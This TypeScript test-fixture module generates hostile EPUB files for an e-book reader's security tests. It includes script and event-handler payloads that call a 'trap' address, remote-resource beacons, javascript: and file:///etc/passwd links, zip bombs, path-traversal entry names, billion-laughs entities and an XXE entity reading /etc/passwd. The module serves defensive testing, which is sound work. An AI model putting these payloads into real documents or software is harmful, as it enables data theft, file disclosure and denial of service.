/** Books that nobody should have made (T28, T29): what runs, what reaches out, what lies about its size, what is half missing. Made by code, so that each of them can be read here. */
import { rawZip, type RawEntry } from './raw-zip.ts'

export interface HostileEpub {
  readonly name: string
  readonly bytes: Uint8Array
  /** What the engine's reader makes of it: words that must be found, or why there are none. */
  readonly text: { readonly words: string; readonly unread?: number } | 'encrypted' | 'broken' | 'too-big'
  /** What the window shows: these words, or that it can't be opened. `file`: it is not even taken for a book. */
  readonly shows: { readonly words: string } | 'broken' | 'too-large' | 'locked' | 'file'
}

interface Parts {
  /** Bodies of the chapters. */
  readonly chapters?: readonly string[]
  readonly head?: string
  readonly mimetype?: string
  readonly container?: string
  readonly opf?: string
  readonly encryption?: string
  readonly more?: readonly RawEntry[]
  /** Names in the book's package file that are not in the archive. */
  readonly missing?: readonly string[]
}

const containerXml =
  '<?xml version="1.0"?><container version="1.0" xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles><rootfile full-path="OEBPS/book.opf" media-type="application/oebps-package+xml"/></rootfiles></container>'

const page = (body: string, head = ''): string =>
  `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml" xmlns:epub="http://www.idpf.org/2007/ops"><head><title>c</title>${head}</head><body>${body}</body></html>`

function opfOf(names: readonly string[], more: readonly RawEntry[], doctype = ''): string {
  const items = names.map((name, i) => `<item id="c${i}" href="${name}" media-type="application/xhtml+xml"/>`)
  const others = more.map(
    ({ name }, i) => `<item id="x${i}" href="${name.replace('OEBPS/', '')}" media-type="${mediaType(name)}"/>`,
  )
  return `<?xml version="1.0"?>${doctype}<package xmlns="http://www.idpf.org/2007/opf" version="3.0" unique-identifier="id"><metadata xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:identifier id="id">urn:uuid:12345678-1234-1234-1234-123456789abc</dc:identifier><dc:title>Made</dc:title><dc:language>en</dc:language></metadata><manifest>${items.join('')}${others.join('')}</manifest><spine>${names.map((_, i) => `<itemref idref="c${i}"/>`).join('')}</spine></package>`
}
const mediaType = (name: string): string =>
  ({ svg: 'image/svg+xml', css: 'text/css', js: 'text/javascript', otf: 'font/otf' })[name.split('.').at(-1) ?? ''] ??
  'application/octet-stream'

function entriesOf({
  chapters = ['<p>Still to be read.</p>'],
  head,
  more = [],
  missing = [],
  ...parts
}: Parts): RawEntry[] {
  const names = chapters.map((_, i) => `c${i}.xhtml`)
  const own = more.filter(({ name }) => name.startsWith('OEBPS/'))
  return [
    { name: 'mimetype', content: parts.mimetype ?? 'application/epub+zip' },
    ...(parts.container === '' ? [] : [{ name: 'META-INF/container.xml', content: parts.container ?? containerXml }]),
    ...(parts.encryption === undefined ? [] : [{ name: 'META-INF/encryption.xml', content: parts.encryption }]),
    ...(parts.opf === '' ? [] : [{ name: 'OEBPS/book.opf', content: parts.opf ?? opfOf([...names, ...missing], own) }]),
    ...chapters.map((body, i) => ({
      name: `OEBPS/${names[i] ?? ''}`,
      content: body.startsWith('<?xml') || body.startsWith('<!') ? body : page(body, head),
    })),
    ...more,
  ]
}
const epub = (parts: Parts): Uint8Array => rawZip(entriesOf(parts))

const encrypted = (uri: string, algorithm: string): string =>
  `<encryption xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><enc:EncryptedData xmlns:enc="http://www.w3.org/2001/04/xmlenc#"><enc:EncryptionMethod Algorithm="${algorithm}"/><enc:CipherData><enc:CipherReference URI="${uri}"/></enc:CipherData></enc:EncryptedData></encryption>`
const laughs = `<!DOCTYPE package [<!ENTITY a0 "ha">${Array.from({ length: 30 }, (_, i) => `<!ENTITY a${i + 1} "&a${i};&a${i};">`).join('')}]>`
const still = { words: 'Still to be read' }
/** Bytes of Cyrillic letters in windows-1251. */
const cp1251 = (text: string): Uint8Array =>
  Uint8Array.from([...text], (letter) => {
    const code = letter.codePointAt(0) ?? 0
    return code >= 0x410 && code <= 0x44f ? code - 0x410 + 0xc0 : code
  })

/** @param trap an address that must hear nothing */
export function hostileEpubs(trap: string): readonly HostileEpub[] {
  return [...reaching(trap), ...broken(), ...lying(), ...locked(), ...odd()]
}

function reaching(trap: string): readonly HostileEpub[] {
  const script = `fetch('${trap}/s'); parent.pwned = 1; top.pwned = 1`
  const bodies: readonly (readonly [string, string, string?])[] = [
    [
      'scripts',
      `<script>${script}</script><script src="${trap}/a.js"></script><script type="module">${script}</script>`,
    ],
    [
      'handlers',
      `<p onclick="${script}" onmouseover="${script}">a</p><img src="x" onerror="${script}"/><details ontoggle="${script}" open="open"><summary>s</summary></details><input autofocus="autofocus" onfocus="${script}"/>`,
    ],
    [
      'svg',
      `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="${script}"><script>${script}</script><image xlink:href="${trap}/i.png" width="9" height="9"/><use href="${trap}/u.svg#a"/><a href="javascript:${script}"><text>t</text></a><animate attributeName="href" to="javascript:${script}"/><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${trap}/f"></iframe></foreignObject></svg>`,
    ],
    [
      'remote media',
      `<img src="${trap}/1.png" srcset="${trap}/2.png 2x"/><picture><source srcset="${trap}/3.png"/><img src="data:image/png;base64,AA=="/></picture><video poster="${trap}/4.png" src="${trap}/5.mp4" autoplay="autoplay"><track src="${trap}/6.vtt" default="default"/></video><audio src="${trap}/7.mp3" autoplay="autoplay"></audio>`,
    ],
    [
      'styles',
      `<style>@import "${trap}/a.css"; @font-face{font-family:x;src:url(${trap}/f.woff)} p{font-family:x;background:url("${trap}/b.png")} li{list-style-image:url(${trap}/l.png)}</style><p style="background-image: url(${trap}/c.png); cursor: url(${trap}/d.cur), auto">styled</p>`,
      `<link rel="stylesheet" href="${trap}/e.css"/><link rel="preload" as="image" href="${trap}/g.png"/><link rel="prefetch" href="${trap}/h"/><link rel="dns-prefetch" href="${trap}"/><link rel="preconnect" href="${trap}"/>`,
    ],
    [
      'frames and forms',
      `<iframe src="${trap}/f"></iframe><iframe srcdoc="&lt;script&gt;${script}&lt;/script&gt;"></iframe><object data="${trap}/o"></object><embed src="${trap}/e"/><form action="${trap}/form" method="post"><input name="a" value="b"/><button formaction="${trap}/b">send</button></form><base href="${trap}/"/>`,
    ],
    [
      'links',
      `<a href="javascript:${script}">one</a><a href="data:text/html,&lt;script&gt;${script}&lt;/script&gt;">two</a><a href="../../../../etc/passwd">three</a><a href="file:///etc/passwd">four</a><a href="app://artel/index.html">five</a><a ping="${trap}/ping" href="https://example.org/">six</a>`,
    ],
    [
      'refresh',
      '',
      `<meta http-equiv="refresh" content="0;url=${trap}/r"/><meta http-equiv="Content-Security-Policy" content="default-src *"/>`,
    ],
  ]
  return bodies.map(([name, body, head]) => ({
    name,
    bytes: epub({ chapters: [`<p>Still to be read.</p>${body}`], ...(head === undefined ? {} : { head }) }),
    text: still,
    shows: still,
  }))
}

function broken(): readonly HostileEpub[] {
  const whole = epub({})
  const none = { text: 'broken', shows: 'broken' } as const
  return [
    { name: 'zero bytes', bytes: new Uint8Array(), text: 'broken', shows: 'file' },
    { name: 'cut off', bytes: whole.subarray(0, whole.length - 60), ...none },
    { name: 'no container', bytes: epub({ container: '' }), ...none },
    { name: 'a container of nothing', bytes: epub({ container: '<container/>' }), ...none },
    { name: 'no package file', bytes: epub({ opf: '' }), ...none },
    { name: 'a torn package file', bytes: epub({ opf: '<package><manifest><item id="c0"' }), ...none },
    { name: 'an empty spine', bytes: epub({ opf: opfOf([], []) }), ...none },
    {
      name: 'no chapter is there',
      bytes: epub({ chapters: [], missing: ['a.xhtml', 'b.xhtml'] }),
      text: 'broken',
      shows: 'broken',
    },
    { name: 'another mimetype', bytes: epub({ mimetype: 'application/x-made-up' }), text: still, shows: 'file' },
  ]
}

function lying(): readonly HostileEpub[] {
  const bomb = (statedSize?: number): RawEntry => ({
    name: 'OEBPS/c1.xhtml',
    content: Buffer.alloc(60_000_000, 0x20),
    isDeflated: true,
    ...(statedSize === undefined ? {} : { statedSize }),
  })
  const many = Array.from({ length: 30_001 }, (_, i) => ({ name: `OEBPS/x/${i}.txt`, content: '' }))
  return [
    { name: 'a bomb', bytes: rawZip([...entriesOf({ missing: ['c1.xhtml'] }), bomb()]), text: 'too-big', shows: still },
    {
      name: 'a bomb that says it is small',
      bytes: rawZip([...entriesOf({ missing: ['c1.xhtml'] }), bomb(1_000)]),
      text: { words: 'Still to be read', unread: 1 },
      shows: still,
    },
    { name: '30 000 entries', bytes: rawZip([...entriesOf({}), ...many]), text: 'too-big', shows: 'too-large' },
    {
      name: 'names that lead out of it',
      bytes: epub({ more: [{ name: '../../../evil.xhtml', content: 'x' }] }),
      text: 'broken',
      shows: still,
    },
    {
      name: 'a chapter with a wrong sum',
      bytes: rawZip(
        entriesOf({ chapters: ['<p>Still to be read.</p>', '<p>Damaged</p>'] }).map((entry) =>
          entry.name.endsWith('c1.xhtml') ? { ...entry, crc: 1 } : entry,
        ),
      ),
      text: { words: 'Still to be read', unread: 1 },
      shows: still,
    },
    {
      name: 'entities that grow',
      bytes: epub({ opf: opfOf(['c0.xhtml'], [], laughs).replace('Made', '&a30;') }),
      text: still,
      shows: 'broken',
    },
    {
      name: 'entities that grow in a chapter',
      bytes: epub({
        chapters: [
          '<p>Still to be read.</p>',
          `<?xml version="1.0"?>${laughs}<html xmlns="http://www.w3.org/1999/xhtml"><body><p>Grown &a30;</p></body></html>`,
        ],
      }),
      text: still,
      shows: still,
    },
    {
      name: 'entities that read files',
      bytes: epub({
        chapters: [
          '<p>Still to be read.</p>',
          '<?xml version="1.0"?><!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]><html xmlns="http://www.w3.org/1999/xhtml"><body><p>File &x;</p></body></html>',
        ],
      }),
      text: still,
      shows: still,
    },
  ]
}

function locked(): readonly HostileEpub[] {
  const font = { name: 'OEBPS/f.otf', content: Buffer.alloc(2_000, 7) }
  return [
    {
      name: 'locked by its seller',
      bytes: epub({ encryption: encrypted('OEBPS/c0.xhtml', 'http://www.w3.org/2001/04/xmlenc#aes128-cbc') }),
      text: 'encrypted',
      shows: 'locked',
    },
    {
      name: 'scrambled fonts',
      bytes: epub({ encryption: encrypted('OEBPS/f.otf', 'http://www.idpf.org/2008/embedding'), more: [font] }),
      text: still,
      shows: still,
    },
    {
      name: 'a torn list of what is locked',
      bytes: epub({ encryption: '<encryption><enc:Encr' }),
      text: still,
      shows: still,
    },
  ]
}

function odd(): readonly HostileEpub[] {
  const name = 'глава.xhtml'
  return [
    {
      name: 'missing chapters',
      bytes: epub({ missing: ['gone.xhtml', 'gone-too.xhtml'] }),
      text: { words: 'Still to be read', unread: 2 },
      shows: still,
    },
    {
      name: 'names in windows-1251',
      bytes: rawZip([
        ...entriesOf({ chapters: [], missing: [name] }),
        { name, rawName: cp1251(`OEBPS/${name}`), content: page('<p>Still to be read.</p>') },
      ]),
      text: still,
      shows: still,
    },
    {
      name: 'letters in windows-1251',
      bytes: rawZip([
        ...entriesOf({ chapters: [], missing: ['c0.xhtml'] }),
        {
          name: 'OEBPS/c0.xhtml',
          content: cp1251(
            '<?xml version="1.0" encoding="windows-1251"?><html xmlns="http://www.w3.org/1999/xhtml"><body><p>Поставщик и сроки</p></body></html>',
          ),
        },
      ]),
      text: { words: 'Поставщик и сроки' },
      shows: { words: 'Поставщик и сроки' },
    },
    {
      name: 'names of signs and spaces',
      bytes: rawZip([
        ...entriesOf({ chapters: [], missing: ['%D0%B0%20%26%20%E2%9C%93%20100%25.xhtml'] }),
        { name: 'OEBPS/а & ✓ 100%.xhtml', content: page('<p>Still to be read.</p>') },
      ]),
      text: still,
      shows: still,
    },
    {
      name: 'no well-formed page',
      bytes: epub({ chapters: ['<p>Still to be read.<br><b>open'] }),
      text: still,
      shows: still,
    },
  ]
}
